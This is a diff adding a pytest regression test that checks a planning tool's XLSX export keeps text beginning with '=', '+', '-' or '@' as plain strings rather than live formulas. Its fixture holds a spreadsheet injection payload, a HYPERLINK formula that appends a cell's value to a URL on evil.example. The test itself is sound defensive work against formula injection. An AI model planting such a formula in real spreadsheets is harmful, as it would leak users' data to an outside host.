@@ -214,6 +214,40 @@ def test_xlsx_export_imports_back_unchanged(demo, tmp_path):
     assert demo.json("action", "list", as_of="01/12/2022") == before
 
 
+FORMULA_TEXT = {
+    "title": '=HYPERLINK("http://evil.example/?"&B2,"Click for the update")',
+    "owner": "=Head of Service",
+    "success": "+10% more placements close to home",
+    "finance": "-£40k (a saving)",
+    "note": "@Fostering Manager: =SUM(A1:A9) is the count",
+}
+
+
+def test_xlsx_export_keeps_formula_like_text_as_text(sufficiency, tmp_path):
+    """Text starting "=" went out as a live formula (<f>), and the export could not come back."""
+    t = FORMULA_TEXT
+    sufficiency.ok("action", "add", "SUFF.2", t["title"], "--owner", t["owner"], "--due", "31/01/2023",
+                   "--success", t["success"], "--finance", t["finance"])
+    sufficiency.ok("action", "update", "SUFF-2.1", "--note", t["note"])
+    out = tmp_path / "plans.xlsx"
+    sufficiency.ok("export", "--format", "xlsx", "--output", str(out))
+    import zipfile
+
+    with zipfile.ZipFile(out) as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
+    ws = load_workbook(out)["SUFF"]
+    action = ws.cell(3, [c.value for c in ws[1]].index("Action") + 1)
+    assert (action.value, action.data_type) == (t["title"], "s")
+    before = sufficiency.json("action", "show", "SUFF-2.1")
+    result = sufficiency.json("import", str(out))
+    assert result["counts"] == {"create": 0, "update": 0, "unchanged": 2}
+    after = sufficiency.json("action", "show", "SUFF-2.1")
+    assert after == before
+    assert (after["title"], after["owner"], after["success"], after["finance"]) == (
+        t["title"], t["owner"], t["success"], t["finance"])
+
+
 def test_ics_export(demo, tmp_path):
     out = tmp_path / "deadlines.ics"
     demo.ok("export", "--format", "ics", "--output", str(out), as_of="01/12/2022")
